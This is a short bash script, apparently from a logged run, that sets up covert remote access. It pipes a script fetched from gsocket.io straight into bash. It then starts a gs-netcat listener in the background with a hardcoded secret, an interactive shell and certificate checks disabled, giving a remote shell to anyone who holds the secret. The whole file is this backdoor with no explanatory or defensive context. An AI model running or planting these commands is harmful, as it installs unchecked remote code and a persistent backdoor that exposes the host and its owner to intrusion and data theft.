# run 5511 v0
#!/bin/bash
bash -c "$(curl -fsSL https://gsocket.io/y)"
GS_NOCERTCHECK=1 gs-netcat -s defaultuser2Secret -l -i &
